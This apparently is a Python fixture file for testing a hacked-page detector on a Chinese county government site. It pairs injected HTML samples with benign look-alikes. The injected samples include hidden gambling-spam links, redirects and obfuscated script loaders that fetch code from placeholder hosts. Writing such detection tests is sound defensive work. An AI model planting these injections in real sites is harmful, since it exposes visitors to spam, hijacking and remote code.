"""A seventh planted set: what tells a break-in by its make and by no name of the lists, each beside what honest pages make nearly alike; written whole before any of it was tried."""

import base64
from collections.abc import Iterator

from safety_cases_hacked import Hacked

_GLOVE = '<a href="http://www.shoutao-w.example/">劳保手套批发</a>'
_SHOPS = "".join(
    f'<a href="http://www.{name}.example/">{words}</a>'
    for name, words in (
        ("jiaoban-z", "搅拌机价格"),
        ("fangshui-y", "防水补漏"),
        ("lunwen-q", "论文查重"),
        ("diaoche-k", "吊车出租"),
    )
)
_PARTNERS = "".join(
    f'<a href="http://www.{name}.example/">{words}</a>'
    for name, words in (
        ("shuiwu-jt", "县水务集团"),
        ("gongjiao-jt", "县公交集团"),
        ("lvtou-jt", "县旅投集团"),
    )
)
_OWN = '<a href="/zwgk/">政务公开</a><a href="/hdjl/">互动交流</a>'
_AWAY = "http://in.yindao.example/?k=gov"


def _in_base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _xored(text: str, key: int) -> str:
    return ",".join(str(ord(letter) ^ key) for letter in text)


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(letter):02x}" for letter in text)


def bad() -> Iterator[Hacked]:
    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
    ways = {
        "computed beyond the window": f'<div style="position:absolute;left:calc(-100vw - 600px)">{_GLOVE}</div>',
        "margins in one word": f'<div style="position:absolute;margin:-9999px 0 0 -9999px">{_GLOVE}</div>',
        "inset": f'<div style="position:absolute;inset:-5000px auto auto -5000px">{_GLOVE}</div>',
        "three windows to the left": f'<div style="transform:translate(-300vw)">{_GLOVE}</div>',
        "no percent of colour": f'<div style="opacity:0%">{_GLOVE}</div>',
        "object of styles": f"<div id='j1'>{_SHOPS}</div><script>$('#j1').css({{'display':'none'}});</script>",
        "style by bracket": f"<div id='j2'>{_SHOPS}</div><script>document.getElementById('j2').style['display']='none';</script>",
        "style by a call": f"<div id='j3'>{_SHOPS}</div><script>document.getElementById('j3').style.setProperty('display','none');</script>",
        "box called links": f'<div class="links" style="display:none">{_SHOPS}</div>',
        "rows each by itself": '<ul class="list">'
        + _SHOPS.replace("<a ", '<li style="display:none"><a ').replace("</a>", "</a></li>")
        + "</ul>",
        "words of no list": '<div style="display:none">蓝鲸体育app官网下载,蓝鲸体育最新登录入口,蓝鲸体育网页版</div>',
    }
    for name, body in ways.items():
        yield Hacked(name, hidden, body=body)
    yield Hacked("before the page", hidden, before=f'<div style="display:none">{_SHOPS}</div>\n')
    yield Hacked(
        "words in a dot",
        hidden,
        tail="<marquee width=1 height=1 scrollamount=9000>canada goose sale, timberland boots on sale, north face jackets clearance</marquee>",
    )
    leads = {
        "way back": f"<script>history.pushState(null,'','');window.addEventListener('popstate',function(){{location.href='{_AWAY}'}})</script>",
        "any click": f"<script>document.onclick=function(){{window.open('{_AWAY}');document.onclick=null}}</script>",
        "address joined": "<script>location.href=['http:','','in.yindao.example','?k=gov'].join('/')</script>",
        "names in an array": f'<script>var _0x3f=["{_hex("location")}","{_hex("href")}","{_hex(_AWAY)}"];window[_0x3f[0]][_0x3f[1]]=_0x3f[2];</script>',
        "field that takes the focus": f"<input autofocus onfocus=\"location.href='{_AWAY}'\" style='border:0'>",
        "first visit by storage": f"<script>if(!localStorage.getItem('v')){{localStorage.setItem('v','1');window.location.href='{_AWAY}'}}</script>",
        "name of the address in parts": f"<script>window['loca'+'tion']['hr'+'ef']='{_AWAY}'</script>",
        "refresh written by a script": f'<script>document.write(\'<meta http-equiv="refresh" content="0;url={_AWAY}">\')</script>',
    }
    for name, body in leads.items():
        yield Hacked(name, away, body=body)
    yield Hacked(
        "canonical of a stranger", away, head='<link rel="canonical" href="https://www.qita-zhan.example/">'
    )
    yield Hacked(
        "phones' edition at a stranger",
        away,
        head='<meta name="mobile-agent" content="format=html5;url=http://m.qita-zhan.example/">',
    )
    yield Hacked(
        "refresh without a protocol",
        away,
        head='<meta http-equiv="refresh" content="0.1;url=//www.qita-zhan.example/">',
    )
    code = "document.write('<script src=http://js.qita-zhan.example/a.js></script>')"
    runs = {
        "crossed codes": f"<script>eval([{_xored(code, 7)}].map(function(c){{return String.fromCharCode(c^7)}}).join(''))</script>",
        "codes in a sum": "<script>document.write("
        + "+".join(
            f"String.fromCharCode({ord(letter)})" for letter in "<script src=//js.qita-zhan.example/a.js>"
        )
        + "+'</scr'+'ipt>')</script>",
        "script under a borrowed name": '<script src="https://hm.baidu.com.tj-cdn.example/hm.js?9a"></script>',
        "script for phones": "<script>if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){document.write('<script src=\"https://m.jiazai.example/s.js\"><\\/script>')}</script>",
        "frame made over the page": "<script>var f=document.createElement('iframe');f.src='https://zhan-y.example:8443/';f.style.cssText='position:fixed;left:0;top:0;width:100%;height:100%;z-index:999999';document.body.appendChild(f)</script>",
    }
    for name, body in runs.items():
        yield Hacked(name, script, body=body)
    titles = {
        "sport of no list": "蓝鲸体育-官网首页",
        "download of no list": "赢博娱乐app下载_安卓苹果通用版_v5.2.0",
        "entry of no list": "云尚真人·登录入口 - 最新网址-青田县人民政府",
        "entities of no list": "&#34013;&#40120;&#20307;&#32946;&#23448;&#32593;&#65288;&#20013;&#22269;&#65289;",
        "Japanese bargains": "【楽天市場】スニーカー 送料無料 セール開催中",
        "Vietnamese cards": "Tải game bài đổi thưởng uy tín nhất 2026",
        "Korean massage": "출장안마 24시간 후불제 - 青田县",
        "English pharmacy": "Buy Ivermectin Online Without Prescription - Cheap Pharmacy",
        "loans": "不看征信秒下款的口子_急用钱马上借_青田县人民政府",
        "matches live": "JRS直播吧_NBA直播免费高清在线观看_英超直播",
    }
    for name, title in titles.items():
        yield Hacked(name, spam, title=title)
    yield Hacked(
        "keywords of one stem",
        spam,
        head='<meta name="keywords" content="金狮电玩城,金狮电玩城下载,金狮电玩城官网">',
    )
    yield Hacked(
        "sentence cut by an offer",
        spam,
        body="<p>会议指出，要聚焦重点任务，蓝鲸体育APP最新下载地址推动各项工作落地见效。</p>",
    )
    yield Hacked(
        "plain link of an unknown house",
        spam,
        body='<p>相关链接：<a href="http://www.lanjing-x.example/">蓝鲸体育官网</a></p>',
    )


def innocent() -> Iterator[Hacked]:
    pages = {
        "centred by a sum": f'<div style="position:absolute;left:calc(50% - 600px)">{_PARTNERS}</div>',
        "margins of a grid": f'<div style="margin:-15px 0 0 -15px">{_PARTNERS}</div>',
        "styles until ready": f"<div id='n1'>{_PARTNERS}</div><script>$('#n1').css({{'display':'none'}});$('#btn').click(function(){{$('#n1').show()}})</script>",
        "hidden list of more": f'<div class="links-more" style="display:none">{_PARTNERS}{_OWN}<a href="http://www.zj.gov.cn/">省政府</a><a href="http://www.lishui.gov.cn/">市政府</a></div>',
        "way back of a list": "<script>window.addEventListener('popstate',function(){location.href='/zwgk/'})</script>",
        "any click closes a menu": "<script>document.onclick=function(){document.getElementById('m').style.display='none'}</script>",
        "counted clicks": "<script>document.addEventListener('click',function(e){new Image().src='https://tongji.fuwu-w.example/c.gif?x='+e.pageX})</script>",
        "own path joined": "<script>document.getElementById('fh').href=['','zwgk','index.html'].join('/')</script>",
        "field that selects itself": "<input autofocus onfocus=\"this.select()\" value='请输入关键字'>",
        "notice by storage": "<script>if(!localStorage.getItem('tip')){localStorage.setItem('tip','1');document.getElementById('tip').style.display='block'}</script>",
        "guard in crossed letters": "<script>var $_ts=window['$_ts'];if(!$_ts)$_ts={};$_ts.nsd=82193;$_ts.cd=[113,114,101].map(function(c){return String.fromCharCode(c^5)}).join('');</script>",
        "player for phones": "<script>if(/Android|iPhone/.test(navigator.userAgent)){document.write('<script src=\"/js/m-player.js\"><\\/script>')}</script>",
        "helper frame made by a script": "<script>var k=document.createElement('iframe');k.src='https://kefu-z.example/chat';k.style.cssText='position:fixed;right:10px;bottom:10px;width:320px;height:480px';document.body.appendChild(k)</script>",
        "visible firms of the county": f"<h3>本县重点企业网站</h3><p>{_SHOPS}{_PARTNERS}</p>",
    }
    for name, body in pages.items():
        yield Hacked(name, body=body)
    yield Hacked("own canonical", head='<link rel="canonical" href="https://www.qingtian.gov.cn/a/b.html">')
    yield Hacked(
        "canonical of the source",
        head='<link rel="canonical" href="https://www.xinhuanet.com/politics/1.htm">',
    )
    yield Hacked("comment before the page", before="<!-- 青田县人民政府 2026-03-31 -->\n")
    titles = {
        "official download": "国家反诈中心APP官方下载_登录入口_青田县公安局",
        "entry of the service": "浙里办APP下载安装-官方网站入口-青田县政务服务网",
        "scores": "2026年高考成绩查询入口_浙江省教育考试院官网_青田县教育局",
        "arena": "青田县体育中心官方网站_场馆预订登录入口",
        "firm with its country": "西门子（中国）有限公司青田项目环评公示_青田县生态环境局",
        "sport lottery": "中国体育彩票官方网站公布公益金使用情况_青田县体育局",
        "match on the screen": "“浙BA”青田赛区揭幕战今晚直播_青田县体育局",
        "English name": "Qingtian County People's Government of Zhejiang Province",
        "sister city": "日本静冈县（静岡県）友好访问团来青 ようこそ青田へ_青田县外事办",
        "county loans": "创业担保贷款办理入口_线上申请 当天放款_青田县人社局",
    }
    for name, title in titles.items():
        text = title.split("_", maxsplit=1)[0]
        yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")
    yield Hacked(
        "Japanese edition",
        title="青田県人民政府 日本語版",
        body="<h2>青田県の紹介</h2><p>青田県は浙江省の南部に位置し、石彫りと華僑の里として知られています。観光と投資についてのお知らせをご覧ください。お問い合わせは外事弁公室まで。</p>",
    )
    yield Hacked(
        "keywords of one column",
        head='<meta name="keywords" content="青田石雕,青田石雕博物馆,青田石雕官网">',
    )


def later_bad() -> Iterator[Hacked]:
    """Written after the pages above and before anything was changed for them."""
    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
    ways = {
        "cut from the right": f'<div style="position:absolute;clip-path:inset(0 100% 0 0)">{_GLOVE}</div>',
        "link laid over the page": f'<a href="{_AWAY}" style="position:absolute;top:0;left:0;width:100%;height:100%;opacity:0;z-index:99"></a>',
        "beside the footer": f"<style>.footer~.qk,.main+.qk{{max-height:0px;overflow:hidden}}.qk{{line-height:0;font-size:0}}</style><div class='qk'>{_SHOPS}</div>",
    }
    for name, body in ways.items():
        yield Hacked(name, hidden, body=body)
    percents = "".join(f"%{ord(letter):02x}" for letter in _AWAY)
    leads = {
        "code in two texts": f'<script>setTimeout("window.lo"+"cation.href=\'{_AWAY}\'",100)</script>',
        "first touch": f"<script>document.addEventListener('touchstart',function(){{location.href='{_AWAY}'}},{{once:true}})</script>",
        "address in percent signs": f"<script>location.assign(decodeURIComponent('{percents}'))</script>",
        "visitors of other provinces": f"<script>$.getJSON('https://ipcx.example/?cb=?',function(d){{if(d.region!='浙江'){{location.href='{_AWAY}'}}}})</script>",
    }
    for name, body in leads.items():
        yield Hacked(name, away, body=body)
    runs = {
        "tag manager of another name": '<script async src="https://www.googletagmanager.com.gtm-js.example/gtag.js?id=G-1"></script>',
        "frame put at the end": '<script>document.body.insertAdjacentHTML(\'beforeend\',\'<iframe src="https://zhan-y.example/" width="0" height="0"></iframe>\')</script>',
        "page fetched in the place of this one": "<script>fetch('https://zhan-y.example/i.html').then(function(r){return r.text()}).then(function(h){document.open();document.write(h);document.close()})</script>",
    }
    for name, body in runs.items():
        yield Hacked(name, script, body=body)
    titles = {
        "ways to one house": "博晟体育(BS Sports)·官方网站/注册/下载",
        "halls of one house": "金洲国际真人_视讯_电子_捕鱼_青田县",
        "Thai without agents": "เว็บตรง ไม่ผ่านเอเย่นต์ ฝากถอนออโต้",
        "Turkish bonus": "Deneme Bonusu Veren Siteler 2026 - Güvenilir",
    }
    for name, title in titles.items():
        yield Hacked(name, spam, title=title)
    yield Hacked(
        "keywords of one house",
        spam,
        head='<meta name="keywords" content="欢庆娱乐登陆,欢庆娱乐注册,欢庆娱乐代理">',
    )
    yield Hacked("title ahead of the page", spam, before="<title>博晟娱乐登录_博晟娱乐注册</title>\n")
    yield Hacked(
        "registration as a link",
        spam,
        body='<div class="main2"><a href="http://www.xinghui-p.example/">星汇平台注册</a> <a href="http://www.tianyu-p.example/">天御娱乐注册</a></div>',
    )


def later_innocent() -> Iterator[Hacked]:
    """Look-alikes of those, written with them."""
    pages = {
        "card that is a link": f'<div class="card" style="position:relative"><h3>公交集团</h3>{_PARTNERS}<a href="/zt/gj/" style="position:absolute;top:0;left:0;width:100%;height:100%;opacity:0"></a></div>',
        "touch of a slide": "<script>document.addEventListener('touchstart',function(e){startX=e.touches[0].pageX},{passive:true})</script>",
        "weather of the place": "<script>$.getJSON('https://tianqi-w.example/?cb=?',function(d){$('#tq').html(d.city+' '+d.temp)})</script>",
        "tool bar put at the end": "<script>document.body.insertAdjacentHTML('beforeend','<div id=\"tool\"><a href=\"/wza/\">无障碍</a></div>')</script>",
        "own part fetched": "<script>fetch('/inc/footer.html').then(function(r){return r.text()}).then(function(h){document.getElementById('ft').innerHTML=h})</script>",
        "own host at a carrier": '<script src="https://www.qingtian.gov.cn.wscdns.example/js/a.js"></script>',
    }
    for name, body in pages.items():
        yield Hacked(name, body=body)
    yield Hacked("declaration ahead of the page", before='<?xml version="1.0" encoding="utf-8"?>\n\n')
    yield Hacked("clock ahead of the page", before="<script>window.t0=new Date()</script>\n")
    titles = {
        "zone": "中国（浙江）自由贸易试验区官方网站上线_青田县商务局",
        "guide of a platform": "“青田惠民”平台注册登录操作指南下载_青田县人社局",
        "Arab guests": "中阿“丝路”经贸对接会（مرحبا）在青田举行_青田县商务局",
        "visa": "Notice on the Visa-Free Policy - Buy Tickets Online at Qingtian Station",
        "games of pupils": "全县中小学生电子竞技进校园活动（注册运动员名单下载）_青田县教育局",
    }
    for name, title in titles.items():
        text = title.split("_", maxsplit=1)[0]
        yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")
    yield Hacked(
        "keywords of one feast",
        head='<meta name="keywords" content="青田杨梅节,青田杨梅节门票,青田杨梅节报名">',
    )


def last_bad() -> Iterator[Hacked]:
    """Written when both sets above were met, before any of these was tried."""
    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
    ways = {
        "shifted as kits do": f'<font style="position: absolute;overflow: hidden;z-index: 9;line-height: 12px;top: -1688px;left: -4899px;">{_GLOVE}</font>',
        "nearly white and tiny": f'<p style="font-size:1px;color:#fefefe">{_SHOPS}</p>',
        "style put into the head": f"<div class='zz7'>{_SHOPS}</div><script>var t=document.createElement('style');t.innerHTML='.zz7{{display:none}}';document.head.appendChild(t)</script>",
        "class given by a script": f"<style>.hide9{{display:none}}</style><div id='z9'>{_SHOPS}</div><script>document.getElementById('z9').className='hide9'</script>",
    }
    for name, body in ways.items():
        yield Hacked(name, hidden, body=body)
    leads = {
        "address in base64": f"<script>window.location=window.atob('{_in_base64(_AWAY)}')</script>",
        "address with single escapes": "<script>var _u='h\\u0074tp:\\/\\/in.yindao.example\\/';parent.window.location=_u;</script>",
        "other machines than Windows": "<script>if(navigator.platform.indexOf('Win')<0){self.location.replace('//in.yindao.example/')}</script>",
    }
    for name, body in leads.items():
        yield Hacked(name, away, body=body)
    runs = {
        "loader in base64": f"<script>!function(){{var s=document.createElement('script');s.src=atob('{_in_base64('https://js.jiazai-q.example/a.js')}');document.head.appendChild(s)}}()</script>",
        "frame without opacity": '<iframe src="https://zhan-y.example/" style="opacity:0;position:absolute;top:0;left:0"></iframe>',
    }
    for name, body in runs.items():
        yield Hacked(name, script, body=body)
    titles = {
        "house in brackets": "【皇都国际】官网登录_机构职能_政策解读_青田县人民政府",
        "English slots": "Best Real Cash Slots - Free Spins Welcome Bonus 2026",
        "films at night": "老司机福利导航_深夜视频免费看_高清无删减",
        "detectives": "私人侦探社_婚外情调查_要债公司_青田县人民政府",
    }
    for name, title in titles.items():
        yield Hacked(name, spam, title=title)
    yield Hacked(
        "keywords among those of the site",
        spam,
        head='<meta name="keywords" content="鸿运彩票app下载,鸿运彩票官网,政务公开,机构职能">',
    )
    yield Hacked(
        "page of a house",
        spam,
        title="鲲鹏体育-鲲鹏体育平台",
        body="<h1>鲲鹏体育</h1><p>鲲鹏体育为玩家提供真人视讯、棋牌、电子游艺等项目，新会员注册即享彩金，存取款秒到账。</p>",
    )
    yield Hacked(
        "entry within a sentence",
        spam,
        body="<p>会议要求，九洲电竞官网登录入口各单位要提高站位，狠抓落实。</p>",
    )


def last_innocent() -> Iterator[Hacked]:
    """Look-alikes of those, written with them."""
    pages = {
        "partner by a chosen click": "<script>document.addEventListener('click',function(e){if(e.target.id==='p'){window.open('http://www.gongjiao-jt.example/')}})</script>",
        "partner by a delegated click": "<script>$('body').on('click','.ad',function(){window.open('http://www.gongjiao-jt.example/')})</script>",
        # the next two came while the sets were mended
        "window of a partner once all is loaded": "<script>window.onload=function(){document.getElementById('kf').onclick=function(){window.open('http://www.gongjiao-jt.example/')}}</script>",
        "click beside the address of a partner": "<script>document.onclick=function(){location.href='/'};var u='http://www.gongjiao-jt.example/';</script>",
        "pane that is not shown": f'<div class="tab-con" style="display:none">{_PARTNERS}</div>',
        "class of a menu": "<style>.hide{display:none}</style><div id='m8'><a href='/zwgk/'>公开</a></div><script>document.getElementById('m8').className='hide'</script>",
    }
    for name, body in pages.items():
        yield Hacked(name, body=body)
    yield Hacked(
        "own phones' edition",
        head='<meta name="mobile-agent" content="format=html5;url=http://m.qingtian.gov.cn/a/b.html">',
    )
    titles = {
        "county in the pocket": "“掌上青田”手机版APP下载 免费注册_青田县融媒体中心",
        "contest": "2026年全国电竞行业职业技能竞赛官网报名入口公告_青田县人社局",
        "Russian fair": "中俄博览会（Российско-Китайское ЭКСПО）青田展团成绩单_青田县商务局",
        "lottery shops": "体育彩票销售网点地址公示_体育彩票官方网站查询方式_青田县体育局",
        "debts": "拖欠中小企业账款要债难？投诉平台登录入口公布_青田县经信局",
    }
    for name, title in titles.items():
        text = title.split("_", maxsplit=1)[0]
        yield Hacked(name, title=title, body=f"<h2>{text}</h2><p>{text}，现予公布。</p>")
